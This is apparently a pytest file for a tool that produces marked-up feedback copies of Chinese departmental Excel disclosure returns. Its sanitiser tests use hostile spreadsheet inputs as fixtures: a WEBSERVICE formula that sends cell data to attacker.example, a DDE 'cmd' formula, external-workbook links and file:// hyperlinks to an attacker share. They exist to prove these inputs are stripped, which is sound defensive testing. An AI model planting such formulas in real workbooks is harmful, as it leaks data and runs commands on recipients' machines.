"""Feedback copies: the department's file marked, a 问题清单 first, nothing live in it, opened under a cap."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from factory import sample_office, write
from openpyxl import load_workbook
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink

from report_builder import schema
from report_builder.findings import Finding
from report_builder.outputs import feedback
from report_builder.outputs.excel import save_workbook
from report_builder.outputs.feedback import (
    FEEDBACK_HEADERS,
    FEEDBACK_SHEET,
    FeedbackRequest,
    feedback_copies,
    feedback_workbook,
    inert_formula,
)
from report_builder.outputs.filling import fill_department
from report_builder.outputs.forms import self_check_cell
from report_builder.schema import DEPARTMENT_SHEETS, FIRST_DATA_ROW, HEADER_ROW

WINDOW = "2017年9月1日至2018年8月31日"


def reload(wb: Any) -> Any:
    """The workbook as Excel would see it: saved and opened again."""
    return load_workbook(io.BytesIO(save_workbook(wb)))


# ---- marking ----------------------------------------------------------------------------------

@pytest.fixture
def submitted(tmp_path: Path) -> Path:
    wb = sample_office().department_template("招生就业处")
    fill_department(wb, "依申请公开", [{"received": "2016-01-01", "summary": "=1+1", "applicant": "自然人"}] * 8)
    fill_department(wb, "主动公开", [{"count": "12条"}])
    return write(wb, tmp_path / "招生就业处.xlsx")


FINDINGS = (
    Finding("date-outside-window", file="招生就业处.xlsx", sheet="依申请公开", cell="A10", value="2016-01-01",
            detail=WINDOW),
    Finding("required", file="招生就业处.xlsx", sheet="依申请公开", cell="D3"),
    Finding("number-as-text", file="招生就业处.xlsx", sheet="主动公开", cell="B3", value="12条"),
    Finding("not-a-date", file="招生就业处.xlsx", sheet="依申请公开", cell="A3", value="=1+1"),
    Finding("date-as-text", file="招生就业处.xlsx", sheet="依申请公开", cell="A3", value="=1+1"),
    Finding("missing-sheet", file="招生就业处.xlsx", sheet="不存在的表"),
    Finding("file-old-format", file="招生就业处.xlsx"),
)


def test_feedback_marks_cells_and_lists_findings(submitted: Path) -> None:
    wb = reload(feedback_workbook(submitted, FINDINGS))
    sent = [s.name for s in DEPARTMENT_SHEETS if s.required]  # no 主动公开分类 without the office's categories
    assert wb.sheetnames[0] == FEEDBACK_SHEET and wb.sheetnames[1:] == [schema.INSTRUCTIONS_SHEET, *sent]
    issues = wb[FEEDBACK_SHEET]
    assert tuple(c.value for c in issues[HEADER_ROW]) == FEEDBACK_HEADERS
    listed = [(r[0], r[1]) for r in issues.iter_rows(min_row=FIRST_DATA_ROW, max_col=2, values_only=True)]
    assert listed == [("（整个文件）", None), ("主动公开", "B3"), ("依申请公开", "A3"), ("依申请公开", "A3"),
                      ("依申请公开", "D3"), ("依申请公开", "A10"), ("不存在的表", "（整张表）")]
    row = next(r for r in issues.iter_rows(min_row=FIRST_DATA_ROW) if r[1].value == "A10")
    assert row[2].value == "2016-01-01" and WINDOW in row[3].value and row[4].value == FINDINGS[0].hint
    assert row[1].hyperlink.location == "'依申请公开'!A10"
    hostile = next(r for r in issues.iter_rows(min_row=FIRST_DATA_ROW) if r[2].value == "=1+1")
    assert hostile[2].data_type == "s"

    apps, counts = wb["依申请公开"], wb["主动公开"]
    assert apps["A10"].fill.fgColor.rgb.endswith("FF9999")
    assert "日期不在统计时间段内" in apps["A10"].comment.text
    assert counts["B3"].fill.fgColor.rgb.endswith("FFFF00")
    assert FINDINGS[2].hint in counts["B3"].comment.text
    both = apps["A3"].comment.text
    assert "不是日期" in both and "日期以文字形式填写" in both
    assert apps["A3"].fill.fgColor.rgb.endswith("FF9999")  # the worst severity wins
    assert apps["A4"].comment is None and apps["A3"].value == "2016-01-01"


def test_feedback_on_a_broken_file_is_just_the_list(tmp_path: Path) -> None:
    broken = tmp_path / "坏.xlsx"
    broken.write_bytes(b"PK\x03\x04 not really a zip")
    wb = reload(feedback_workbook(broken, [Finding("file-corrupt", file="坏.xlsx")]))
    assert wb.sheetnames == [FEEDBACK_SHEET]
    assert wb[FEEDBACK_SHEET]["D3"].value == "文件已损坏或不完整"


def test_feedback_twice_replaces_the_old_list(submitted: Path, tmp_path: Path) -> None:
    again = write(feedback_workbook(submitted, FINDINGS), tmp_path / "again.xlsx")
    wb = reload(feedback_workbook(again, FINDINGS[:1]))
    assert wb.sheetnames.count(FEEDBACK_SHEET) == 1 and wb[FEEDBACK_SHEET].max_row == FIRST_DATA_ROW
    apps = wb["依申请公开"]
    assert apps["A10"].comment.text.count("日期不在统计时间段内") == 1
    assert apps["A3"].comment is None and apps["A3"].fill.fill_type is None  # fixed since the last round
    assert wb["主动公开"]["B3"].comment is None
    twice = [save_workbook(feedback_workbook(again, FINDINGS[:1])) for _ in range(2)]
    assert twice[0] == twice[1]


# ---- nothing live goes back to a department --------------------------------------------------------

LIVE = {  # cell → (formula, the value Excel last computed for it)
    "A3": ('=WEBSERVICE("http://attacker.example/?"&B3)', "已发送"),
    "B3": ("=cmd|'/c calc'!A0", "0"),
    "C3": ("=[1]Sheet1!$A$1", "42"),
    "D3": ('=HYPERLINK("file://attacker/share","点我")', "点我"),
}


def with_cached_values(path: Path, cached: dict[str, str]) -> Path:
    """Give the formula cells of the first sheet that has them a cached text value, as Excel saves it."""
    with zipfile.ZipFile(path) as source:
        parts = {info.filename: source.read(info) for info in source.infolist()}
    for name, data in parts.items():
        if name.startswith("xl/worksheets/sheet"):
            text = data.decode()
            for ref, value in cached.items():
                text = re.sub(f'(<c r="{ref}"[^>]*)><f>(.*?)</f><v></v>', rf'\1 t="str"><f>\2</f><v>{value}</v>', text)
            parts[name] = text.encode()
    with zipfile.ZipFile(path, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return path


@pytest.fixture
def live(tmp_path: Path) -> Path:
    """A department's return with live formulas, names, validations, conditional formats and links."""
    wb = sample_office().department_template("招生就业处")
    ws = wb["主动公开"]
    for ref, (formula, _) in LIVE.items():
        ws[ref].value = formula
    ws["E3"].value = "=SUM(1,2)"  # plain arithmetic: kept
    wb.defined_names["dde"] = DefinedName("dde", attr_text="cmd|'/c calc'!A0")
    wb.defined_names["outside"] = DefinedName("outside", attr_text="[1]Sheet1!$A$1")
    dv = DataValidation(type="list", formula1='WEBSERVICE("http://attacker.example")')
    ws.add_data_validation(dv)
    dv.add("F3")
    ws.conditional_formatting.add("F3", FormulaRule(formula=['WEBSERVICE("http://x")="1"']))
    ws["F4"].value = ws["F5"].value = "附件"  # (a link on an empty cell shows its target as text)
    ws["F4"].hyperlink = Hyperlink(ref="F4", target="file://attacker/share/x.exe")
    ws["F5"].hyperlink = Hyperlink(ref="F5", target="https://www.example.edu.cn/xxgk")
    path = write(wb, tmp_path / "招生就业处.xlsx")
    return with_cached_values(path, {ref: value for ref, (_, value) in LIVE.items()})


def formulas(wb: Any) -> list[str]:
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def test_inert_formulas_are_plain_arithmetic_on_own_cells() -> None:
    assert inert_formula('IF(SUMPRODUCT((LEN($A$3:$A$9)>0)*1)=0,"✔ 好","⚠ "&C1)')
    assert inert_formula("'_lists'!$A$1:$A$5") and inert_formula('"是,否"') and inert_formula("DATE(2017,9,1)")
    assert inert_formula('LEN("WEBSERVICE(")>0')  # a function name inside a string is text
    for live_formula in (*(f.lstrip("=") for f, _ in LIVE.values()), "INDIRECT(A1)", "_xlfn.WEBSERVICE(A1)",
                         "CALL(\"kernel32\",\"x\")", "'C:\\[x.xlsx]S'!A1", "A1+EXEC(1)"):
        assert not inert_formula(live_formula), live_formula


def test_feedback_copy_keeps_no_live_formula_name_rule_or_link(live: Path) -> None:
    [data] = feedback_copies([FeedbackRequest(live, (Finding("required", file=live.name, sheet="主动公开",
                                                             cell="A3"),))])
    wb = load_workbook(io.BytesIO(data))
    ws = wb["主动公开"]
    assert all(inert_formula(f.lstrip("=")) for f in formulas(wb))
    assert [ws[ref].value for ref in LIVE] == [value for _, value in LIVE.values()]
    assert all(ws[ref].data_type == "s" for ref in LIVE)
    assert ws["E3"].value == "=SUM(1,2)"
    spec = next(s for s in DEPARTMENT_SHEETS if s.name == "主动公开")
    assert str(ws[self_check_cell(spec)].value).startswith("=IF(")  # our self-check still works
    assert "dde" not in wb.defined_names and "outside" not in wb.defined_names
    assert not any("WEBSERVICE" in str(dv.formula1) for dv in ws.data_validations.dataValidation)
    assert not any("WEBSERVICE" in f for cf in ws.conditional_formatting for r in cf.rules for f in r.formula)
    assert ws["F4"].hyperlink is None and ws["F5"].hyperlink.target == "https://www.example.edu.cn/xxgk"
    assert ws["A3"].comment is not None  # still marked
    raw = b"".join(zipfile.ZipFile(io.BytesIO(data)).read(n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist())
    assert b"attacker" not in raw and b"externalLink" not in raw


def test_a_file_too_costly_to_open_gets_the_list_and_says_why(submitted: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feedback, "FEEDBACK_TIMEOUT_S", 0.0)  # no file opens in no time
    findings = FINDINGS[:2]
    first, second = feedback_copies([FeedbackRequest(submitted, findings), FeedbackRequest(None, findings)])
    wb = load_workbook(io.BytesIO(first))
    assert wb.sheetnames == [FEEDBACK_SHEET]
    assert "超时" in wb[FEEDBACK_SHEET]["A1"].value and "只含问题清单" in wb[FEEDBACK_SHEET]["A1"].value
    listed = [r[1] for r in wb[FEEDBACK_SHEET].iter_rows(min_row=FIRST_DATA_ROW, max_col=2, values_only=True)]
    assert listed == ["D3", "A10"]
    assert load_workbook(io.BytesIO(second)).sheetnames == [FEEDBACK_SHEET]
    assert "超时" not in load_workbook(io.BytesIO(second))[FEEDBACK_SHEET]["A1"].value


def test_a_file_too_large_to_open_is_not_opened(submitted: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(feedback, "FEEDBACK_MAX_XML_MB", 0.01)  # the template unpacks to more than 10 KB
    [data] = feedback_copies([FeedbackRequest(submitted, FINDINGS[:1])])
    wb = load_workbook(io.BytesIO(data))
    assert wb.sheetnames == [FEEDBACK_SHEET] and "超过 0.01 MB" in wb[FEEDBACK_SHEET]["A1"].value
